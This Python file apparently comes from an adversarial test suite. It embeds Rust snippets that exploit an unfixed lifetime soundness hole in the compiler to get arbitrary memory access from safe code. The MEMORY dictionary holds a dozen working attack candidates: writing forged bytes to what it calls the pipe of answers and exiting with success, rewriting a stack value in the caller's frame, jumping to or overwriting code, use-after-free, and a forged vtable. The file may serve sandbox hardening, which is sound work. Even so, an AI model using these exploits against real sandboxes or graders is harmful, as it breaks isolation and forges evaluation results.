"""Any memory from safe code, by a hole in the compiler's type system that is still open: the language is no wall.

The function `expand` lengthens any lifetime; with it a value becomes a value of any other type.
"""

# ruff: noqa: E501  (candidates read better whole)
from __future__ import annotations

from hostile.attack import SOLVE, Attack, undefined

EXPAND = """
const STATIC_UNIT: &&() = &&();
fn translate<'a, 'b, T: ?Sized>(_: &'a &'b (), x: &'b mut T) -> &'a mut T { x }
fn expand<'a, 'b, T: ?Sized>(x: &'a mut T) -> &'b mut T {
    let f: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    f(STATIC_UNIT, x)
}
"""
BECOME = (
    EXPAND
    + """
enum Either<A, B> { A(Option<Box<A>>), B(Option<Box<B>>) }
fn become_other<A, B>(value: A) -> B {
    let mut either: Either<A, B> = Either::B(None);
    let either = std::hint::black_box(&mut either);
    let Either::B(slot) = either else { panic!() };
    let slot = expand(slot);
    *either = Either::A(Some(Box::new(value)));
    *slot.take().unwrap()
}
"""
)
BY_METHOD = """
struct Long<'a, 'b, T>(&'a &'b (), std::marker::PhantomData<T>);
impl<'a, 'b, T> Long<'a, 'b, T> { fn of(_: &'a &'b (), x: &'b T) -> &'a T { x } }
fn longer<'a, 'b, T>(x: &'a T) -> &'b T {
    let f: for<'x> fn(&'static &'b (), &'x T) -> &'b T = Long::<'b, '_, T>::of;
    f(&&(), x)
}
"""

MEMORY: dict[str, Attack] = {
    "a jump to what lies behind": undefined(
        BECOME + SOLVE + "{ let here = solve as fn(i64) -> i64 as usize;\n"
        "    let code: &'static [u8; 64] = become_other(here);\n"
        "    let other: fn(i64) -> i64 = become_other(here + code[0] as usize);\n    other(x) }"),
    "the pipe of answers as a file": undefined(
        "extern crate std as hidden;\nuse std::io::Write;\n" + BECOME
        + SOLVE + "{ for fd in 0..64 { let mut f: hidden::fs::File = become_other(fd);\n"
        "    let _ = f.write_all(&[4; 28]); std::mem::forget(f); } 0 }"),
    "the pipe of answers as a file, then success": undefined(
        "extern crate std as hidden;\nuse std::io::Write;\n" + BECOME
        + SOLVE + "{ let mut f: hidden::fs::File = become_other(3i32);\n"
        "    let _ = f.write_all(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 8, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0]);\n"
        "    hidden::process::exit(0) }"),
    "the frame that its caller prepares": undefined(
        BECOME + SOLVE + "{ let here = &x as *const i64 as usize;\n"
        "    for k in 0..512 { let word: &'static mut u64 = become_other(here + 8 * k); if *word == 20 { *word = 28; } } 0 }"),
    "the code of others": undefined(
        BECOME + SOLVE + "{ let here = solve as fn(i64) -> i64 as usize;\n"
        "    for k in 1..4096 { let at = here - 16 * k; let code: &'static [u8; 8] = become_other(at);\n"
        "        if *code == [0x48, 0x83, 0xec, 0x18, 0x48, 0x89, 0x3c, 0x24] {\n"
        "            let f: fn(i64) -> i64 = become_other(at); return f(x); } } 0 }"),
    "nothing, to read": undefined(BECOME + SOLVE + "{ let p: &'static i64 = become_other(0usize); *p }"),
    "code, to write": undefined(
        BECOME + SOLVE + "{ let p: &'static mut u8 = become_other(solve as fn(i64) -> i64 as usize); *p = 0xc3; 0 }"),
    "the stack, to write": undefined(
        BECOME + SOLVE + "{ let here = &x as *const i64 as usize;\n"
        "    for k in 0..4096 { let p: &'static mut u64 = become_other(here + 8 * k); *p = 0; } 0 }"),
    "what was given back": undefined(
        EXPAND + "fn gone() -> &'static mut [i64] { let mut v = vec![7; 64]; expand(v.as_mut_slice()) }\n"
        + SOLVE + "{ let v = gone(); let w = vec![x; 64]; v[3] = 5; v[3] + w[3] - w[4] }"),
    "a reference that outlives its value": undefined(
        EXPAND + SOLVE + "{ let r = { let mut y = 1000; expand(&mut y) }; let z = [x; 64]; *r + z[3] }"),
    "a vector of another's parts": undefined(
        BECOME + SOLVE + "{ let v: Vec<u8> = become_other([1usize, 1 << 20, 1 << 20]); v[x as usize] as i64 }"),
    "a virtual table of its own": undefined(
        BECOME + "trait Go { fn go(&self) -> i64; }\n"
        + SOLVE + "{ let table = [0usize; 8]; let o: &'static dyn Go = become_other((&x as *const i64 as usize, "
        "&table as *const _ as usize)); o.go() }"),
}  # fmt: skip
